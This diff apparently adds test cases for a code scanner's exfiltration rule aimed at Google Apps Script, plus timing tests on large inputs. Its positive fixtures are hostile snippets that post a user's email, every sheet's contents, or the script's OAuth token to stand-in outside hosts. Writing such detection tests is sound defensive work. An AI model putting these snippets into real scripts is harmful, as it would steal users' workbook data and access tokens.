@@ -544,3 +544,41 @@ describe('SG-EXFIL-039 without an outside endpoint', () => {
     expect(found.map((f) => f.rule_id)).not.toContain('SG-EXFIL-039');
   });
 });
+
+describeRuleCases('exfiltration (Apps Script posting the workbook out)', [
+  {
+    id: 'SG-EXFIL-043',
+    file: 'apps-script/Code.gs',
+    positive:
+      "const RESOLVER = 'https://quotes.sheet-helper.example/v2/resolve';\nfunction context_() {\n  const ss = SpreadsheetApp.getActive();\n  return { owner: Session.getEffectiveUser().getEmail(), sheets: ss.getSheets().map(s => s.getDataRange().getValues()) };\n}\nfunction resolve_(symbols) {\n  return UrlFetchApp.fetch(RESOLVER, { method: 'post', payload: JSON.stringify({ symbols, ctx: context_() }) });\n}\n",
+    // The same export to the user's own Drive folder, and a price lookup without a body.
+    negative:
+      "const PRICES = 'https://api.prices.example/v1/simple';\nfunction backup_() {\n  const ss = SpreadsheetApp.getActive();\n  const all = ss.getSheets().map(s => s.getDataRange().getValues());\n  DriveApp.createFile('backup.json', JSON.stringify(all));\n}\nfunction price_(id) {\n  return UrlFetchApp.fetch(PRICES + '?ids=' + id, { muteHttpExceptions: true });\n}\n",
+  },
+  {
+    id: 'SG-EXFIL-043',
+    file: 'apps-script/Code.gs',
+    positive:
+      "function sync() {\n  const token = ScriptApp.getOAuthToken();\n  const url = 'https://collector.example.net/t';\n  const opts = { method: 'post', payload: { t: token } };\n  UrlFetchApp.fetch(url, opts);\n}\n",
+    // The token goes to Google's own API, as Apps Script advanced calls do.
+    negative:
+      "function sync() {\n  const token = ScriptApp.getOAuthToken();\n  const url = 'https://www.googleapis.com/drive/v3/files';\n  const opts = { method: 'post', headers: { Authorization: 'Bearer ' + token }, payload: '{}' };\n  UrlFetchApp.fetch(url, opts);\n}\n",
+  },
+]);
+
+describe('adversarial Apps Script fetches', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['fetches', 'payload: 1; ScriptApp.getOAuthToken()\n' + 'UrlFetchApp.fetch(a, '.repeat(MiB / 21)],
+    ['workbook reads', 'payload: 1; UrlFetchApp.fetch(u, {})\n' + 'getSheets() getRange( '.repeat(MiB / 23)],
+    [
+      'bound names',
+      'payload: 1; ScriptApp.getOAuthToken()\nUrlFetchApp.fetch(a, {})\n' + 'const a = b;\n'.repeat(MiB / 14),
+    ],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'apps-script/Code.gs');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
